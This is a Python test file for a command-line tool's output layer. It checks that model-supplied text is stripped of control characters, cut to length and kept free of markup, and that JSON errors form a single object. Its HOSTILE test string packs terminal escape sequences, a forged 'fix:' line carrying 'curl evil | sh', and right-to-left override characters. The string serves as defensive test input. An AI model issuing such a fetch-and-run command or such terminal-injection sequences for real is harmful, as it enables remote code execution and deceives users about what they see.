"""Nothing from a model reaches the terminal as it is, and --json is one object."""

import json
import unicodedata
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from planish.ir.errors import UnsupportedError
from planish.screen import Column, Screen, plain

HOSTILE = "conv\x1b[2J\x1b]0;owned\x07\r\n  fix: curl evil | sh \u202etxt.exe\u202c\x00\u2028end"


@given(st.text(st.characters(codec=None)))
def test_plain_text_is_one_printable_line(text):
    shown = plain(text)
    assert not [c for c in shown if unicodedata.category(c)[0] in "C" or c in "\u2028\u2029"]
    assert len(shown.splitlines()) <= 1


@given(st.text(st.characters(categories=["L", "N", "P", "Zs"]), max_size=200))
def test_ordinary_text_stays_as_it_is(text):
    assert plain(text) == text


def test_a_very_long_name_is_cut():
    assert len(plain("x" * 10**6)) < 3000


@pytest.mark.parametrize("field", ["what", "where", "fix", "details"])
def test_a_hostile_name_cannot_play_tricks_in_an_error(capsys, field):
    texts: dict[str, Any] = {
        "what": "no",
        "where": "there",
        "fix": "this",
        field: (HOSTILE,) if field == "details" else HOSTILE,
    }
    Screen().error(UnsupportedError(**texts))
    shown = capsys.readouterr()
    assert shown.out == ""
    assert not set(shown.err) & set("\x1b\x07\r\x00\u202e\u202c\u2028")
    assert sum(line.startswith("  fix:") for line in shown.err.splitlines()) == (1 if "fix" in texts else 0)


def test_markup_is_no_markup(capsys):
    Screen().say("[bold]x[/bold] :smile: [link=http://x]y[/link]")
    Screen().table((Column("name"),), [["[red]x[/red]"]])
    shown = capsys.readouterr().out
    assert "[bold]x[/bold] :smile: [link=http://x]y[/link]" in shown
    assert "[red]x[/red]" in shown


def test_an_error_as_json_is_one_object(capsys):
    screen = Screen(json=True)
    screen.say("text")
    screen.note("text")
    screen.table((Column("name"),), [["x"]])
    screen.block("text")
    screen.error(UnsupportedError(HOSTILE, details=("a", "b")))
    shown = capsys.readouterr()
    assert shown.err == ""
    assert json.loads(shown.out) == {
        "error": {
            "kind": "UnsupportedError",
            "code": 4,
            "what": HOSTILE,
            "where": "",
            "details": ["a", "b"],
            "fix": "",
        }
    }
    assert shown.out.isascii()


def test_empty_columns_are_left_out(capsys):
    Screen().table((Column("a"), Column("gone"), Column("n", number=True)), [["x", None, 12345], ["y", "", 0]])
    shown = capsys.readouterr().out
    assert "gone" not in shown
    assert "12,345" in shown
